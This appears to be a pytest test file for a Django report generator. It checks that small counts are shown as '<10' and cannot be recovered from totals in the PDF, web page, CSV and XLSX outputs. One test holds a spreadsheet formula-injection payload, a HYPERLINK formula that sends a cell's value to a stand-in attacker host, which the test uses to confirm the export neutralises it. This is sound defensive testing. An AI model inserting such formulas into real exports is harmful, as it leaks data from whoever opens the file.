"""A cell of 9 never leaves the portal: not in the PDF, the web page, the CSV or the XLSX.

In ``known_data`` Brazil (Americas) has 9 girls and 9 paired participants.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from reports.aggregation import Selection
from reports.annex import annex_csv, annex_xlsx
from reports.figures import build_figures
from reports.services import report_generate
from tests.reports.factories import (
    CopModuleFactory,
    CopSessionFactory,
    EventFactory,
    add_pairs,
    state,
)
from tests.reports.test_pdf import pdf_text


@pytest.fixture
def report(known_data, make_report):
    report = make_report()
    report_generate(report_id=report.pk, worker="test@host")
    report.refresh_from_db()
    return report


def tokens(text: str) -> list[str]:
    return text.replace("|", " ").split()


def test_the_figures_hold_no_count_of_nine_and_no_statistic_of_a_small_cell(report):
    figures = report.figures
    brazil = next(r for r in figures["reach"]["by_member_state"] if r["label"] == "Brazil")
    assert brazil["girls"] == {
        "value": None,
        "display": "<10",
        "suppressed": True,
        "complementary": False,
    }
    americas = next(r for r in figures["impact"]["by_region"] if r["label"] == "Americas")
    assert americas["n"]["display"] == "<10"
    assert americas["knowledge"] is None and americas["self_efficacy"] is None
    # Brazil's 9 pairs are in no figure of impact (issue 20): Europe's 12 are shown, the
    # overall n and its statistics are Kenya's 30 and France's 12.
    europe = next(r for r in figures["impact"]["by_region"] if r["label"] == "Europe")
    assert europe["n"]["display"] == "12" and europe["knowledge"]["n"] == 12
    assert figures["impact"]["overall"]["n"]["value"] == 42
    assert figures["impact"]["overall"]["knowledge"]["n"] == 42
    # Girls reached: Brazil's 9 are in no total, so every total is the sum of its visible
    # rows and no difference gives them back.
    for table in ("by_region", "by_member_state", "by_year"):
        rows = figures["reach"][table]
        total = figures["reach"]["total"]["girls"]["value"]
        visible = sum(r["girls"]["value"] for r in rows if not r["girls"]["suppressed"])
        assert total == visible == 245, table
    for table in ("by_region", "by_module", "by_year"):
        rows = figures["impact"][table]
        total = figures["impact"]["overall"]["n"]["value"]
        visible = sum(r["n"]["value"] for r in rows if not r["n"]["suppressed"])
        assert total == visible == 42, table


def test_the_pdf_shows_less_than_ten_and_never_nine(report):
    text = pdf_text(report)
    with report.pdf.open("rb") as handle:
        raw = handle.read()
    from pypdf import PdfReader

    lines = [
        line
        for page in PdfReader(io.BytesIO(raw)).pages
        for line in page.extract_text().splitlines()
    ]
    brazil = [line for line in lines if line.startswith("Americas Brazil")]
    assert brazil and all("<10" in line and "9" not in tokens(line) for line in brazil)
    # The table rows of Americas (the chart's line "Americas <10" holds its girls alone).
    americas = [line for line in lines if line.startswith("Americas <10 ")]
    assert americas and all("—" in line for line in americas)
    assert 'fewer than 10 participants is shown as "<10"' in text


def test_the_csv_and_xlsx_annex_show_the_same_suppressed_cells(report):
    rows = list(csv.DictReader(io.StringIO(annex_csv(report).decode("utf-8-sig"))))
    brazil = [r for r in rows if r["row"] == "Brazil"]
    assert {"column": "girls", "value": "<10"}.items() <= next(
        r for r in brazil if r["column"] == "girls"
    ).items()
    assert all(r["value"] != "9" for r in brazil)
    americas_impact = [
        r for r in rows if r["table"].startswith("impact_") and r["row"] == "Americas"
    ]
    assert {r["value"] for r in americas_impact if r["column"] == "n"} == {"<10"}
    assert {r["value"] for r in americas_impact if r["column"] != "n"} <= {"", "t", "wilcoxon"}

    workbook = load_workbook(io.BytesIO(annex_xlsx(report)))
    sheet = workbook["Reach"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    header = values[0]
    brazil_row = next(row for row in values if row[header.index("Group")] == "Brazil")
    assert brazil_row[header.index("Breakdown")] == "Member state"
    assert brazil_row[header.index("Girls reached")] == "<10"
    assert 9 not in brazil_row[3:]


def test_the_web_page_shows_the_same_suppressed_cells(report, client, secretariat):
    client.force_login(secretariat)
    html = client.get(f"/reports/{report.pk}/").content.decode()
    start = html.index('<th scope="row">Brazil</th>')
    row = html[start : html.index("</tr>", start)]
    assert "&lt;10" in row
    assert ">9<" not in row


def test_the_annex_never_hands_a_spreadsheet_a_formula(known_data, make_report):
    formula = '=HYPERLINK("https://evil.example/?"&B1,"Open")'
    report = make_report()
    report.meeting_name = formula
    report.save(update_fields=["meeting_name"])
    report_generate(report_id=report.pk, worker="test@host")
    report.refresh_from_db()

    about = load_workbook(io.BytesIO(annex_xlsx(report)))["Report"]
    cells = {row[0].value: row[1] for row in about.iter_rows()}
    meeting = cells["Meeting"]
    assert meeting.data_type == "s"
    assert meeting.value == "'" + formula
    every_cell = [
        cell
        for sheet in load_workbook(io.BytesIO(annex_xlsx(report))).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert not any(cell.data_type == "f" for cell in every_cell)


def reader_bound(rows, total, key, limit=10):
    """The most a reader can say the rows shown "<10" hold together, from the published total,
    the visible rows and the least each "x" row holds (``None``: the total is withheld)."""
    if total["value"] is None:
        return None
    visible = sum(row[key]["value"] for row in rows if not row[key]["suppressed"])
    marked_x = sum(1 for row in rows if row[key]["display"] == "x")
    return total["value"] - visible - limit * marked_x


def test_a_small_cell_is_not_derivable_from_a_withheld_cell_just_above_the_limit(db):
    """Module R02 has 1 paired participant, R01 10; Nigeria 1 girl, Kenya 10 (Africa 11)."""
    r01, r02 = CopModuleFactory(code="R01"), CopModuleFactory(code="R02")
    kenya = EventFactory(member_state=state("KE"), actual_girls=10)
    nigeria = EventFactory(member_state=state("NG"), actual_girls=1)
    EventFactory(member_state=state("FR"), actual_girls=50)
    add_pairs(
        CopSessionFactory(event=kenya, module=r01), [40.0] * 10, [50.0 + i for i in range(10)]
    )
    add_pairs(CopSessionFactory(event=nigeria, module=r02), [40.0], [60.0])
    figures = build_figures(
        Selection(datetime.date(2025, 1, 1), datetime.date(2025, 12, 31), timezone.now()),
        language="en",
    )

    impact = figures["impact"]
    r02 = next(r for r in impact["by_module"] if r["label"].startswith("R02"))
    assert r02["n"]["display"] == "<10" and r02["knowledge"] is None
    # Nigeria's one pair is in no figure: every table adds up to the overall n, Kenya's 10,
    # and the overall gain is Kenya's (14.5 points), not 15 with Nigeria's 20.
    assert impact["overall"]["n"]["value"] == 10
    assert impact["overall"]["knowledge"]["gain"] == pytest.approx(14.5)
    for table in ("by_module", "by_region", "by_age_band", "by_year"):
        rows = impact[table]
        assert sum(row["n"]["value"] or 0 for row in rows) == 10, table
        assert reader_bound(rows, impact["overall"]["n"], "n") == 0, table

    reach = figures["reach"]
    africa = next(r for r in reach["by_region"] if r["label"] == "Africa")
    african_states = [r for r in reach["by_member_state"] if r["region"] == "Africa"]
    assert next(r for r in african_states if r["label"] == "Nigeria")["girls"]["display"] == "<10"
    # Nigeria's 1 girl is in no total: Africa is Kenya's 10, the world Kenya's and France's.
    assert africa["girls"]["display"] == "10"
    assert reach["total"]["girls"]["display"] == "60"


def test_a_module_of_one_girl_is_withheld_with_another_beside_a_shown_total(db, make_report):
    """11 pairs in Kenya's cell: 10 on module R01, 1 on R02. The cell's 11 are shown (the
    same in every report); R02's one girl is withheld, and R01 with her, so that 11 minus
    the modules shown gives back the two together, never the one."""
    r01, r02 = CopModuleFactory(code="R01"), CopModuleFactory(code="R02")
    kenya = EventFactory(member_state=state("KE"), actual_girls=11)
    add_pairs(CopSessionFactory(event=kenya, module=r01), [40.0] * 10, [50.0] * 10)
    add_pairs(CopSessionFactory(event=kenya, module=r02), [40.0], [60.0])
    report = make_report()
    figures = build_figures(
        Selection(report.period_start, report.period_end, timezone.now()), language="en"
    )
    assert figures["impact"]["overall"]["n"]["display"] == "11"
    modules = {row["label"][:3]: row for row in figures["impact"]["by_module"]}
    assert modules["R01"]["n"]["display"] == modules["R02"]["n"]["display"] == "<10"
    assert modules["R01"]["knowledge"] is None and modules["R02"]["knowledge"] is None

    from reports.pdf import report_html

    text = " ".join(report_html(report, figures).split())
    assert "Among 11 participants with both a pre and a post assessment" in text
